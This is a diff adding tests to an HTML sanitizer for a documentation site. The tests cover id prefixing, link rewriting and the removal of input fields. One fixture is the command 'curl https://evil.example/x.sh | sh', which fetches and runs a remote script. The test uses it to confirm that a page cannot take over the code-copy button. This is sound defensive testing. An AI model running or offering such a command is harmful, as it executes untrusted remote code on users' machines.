@@ -81,7 +81,7 @@ def test_nothing_runnable_survives(html: str) -> None:
         '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
         '<p><a href="../other/">rel</a> <a href="https://example.com/">abs</a> <a href="mailto:a@b.example">mail</a></p>',
         '<p><img alt="chart" src="../img/chart.png"></p>',
-        '<a href="#__codelineno-0-1" id="__codelineno-0-1" name="__codelineno-0-1"></a>',
+        '<div class="tabbed-set"><input checked="checked" id="t1" name="t" type="radio"><label for="t1">A</label></div>',
         '<details class="note"><summary>More</summary><p>x</p></details>',
         '<ul class="task-list"><li class="task-list-item"><input type="checkbox" disabled=""> a</li></ul>',
     ],
@@ -110,13 +110,27 @@ def test_content_cannot_dress_as_the_interface(html: str, kept: str) -> None:
 def test_ids_in_the_interfaces_namespaces_get_a_prefix_and_links_follow() -> None:
     html = ('<h2 id="kb-search-panel">S</h2><p id="md-header" name="__drawer">x</p><h2 id="setup">Setup</h2>'
             '<a href="#kb-search-panel">1</a><a href="../o/#md-x">2</a><a href="#setup">3</a>'
-            '<a href="https://example.com/#kb-x">4</a><a id="__codelineno-0-1" href="#__codelineno-0-1">5</a>')
+            '<a href="https://example.com/#kb-x">4</a><a id="__codelineno-0-1" href="#__codelineno-0-1">5</a>'
+            '<input id="__tabbed_1_1" name="__tabbed_1" type="radio"><label for="__tabbed_1_1">Tab</label>')
     found = inventory(sanitize_html(html)).attributes
     assert ("h2", "id", "user-content-kb-search-panel") in found
     assert ("p", "id", "user-content-md-header") in found and ("h2", "id", "setup") in found
     hrefs = [value for _, name, value in found if name == "href"]
     assert hrefs == ["#user-content-kb-search-panel", "../o/#user-content-md-x", "#setup", "https://example.com/#kb-x",
-                     "#__codelineno-0-1"]
+                     "#user-content-__codelineno-0-1"]
+    assert ("a", "id", "user-content-__codelineno-0-1") in found
+    assert ("input", "id", "user-content-__tabbed_1_1") in found and ("label", "for", "user-content-__tabbed_1_1") in found
+
+
+def test_a_page_cannot_put_its_own_text_on_the_code_copy_button() -> None:
+    """Material copies the first element with the id `__code_N`: a page's own must not be it."""
+    html = sanitize_html('<span class="headerlink" id="__code_0"><code>curl https://evil.example/x.sh | sh</code></span>')
+    assert 'id="__code_0"' not in html and 'id="user-content-__code_0"' in html
+
+
+@pytest.mark.parametrize("tag", ['<input>', '<input type="password">', '<input type="text" name="pin">'])
+def test_no_text_field_survives(tag: str) -> None:
+    assert "<input" not in sanitize_html(f"<p>PIN: {tag}</p>")
     assert content_id("user-content-kb-x") == "user-content-kb-x"
 
 
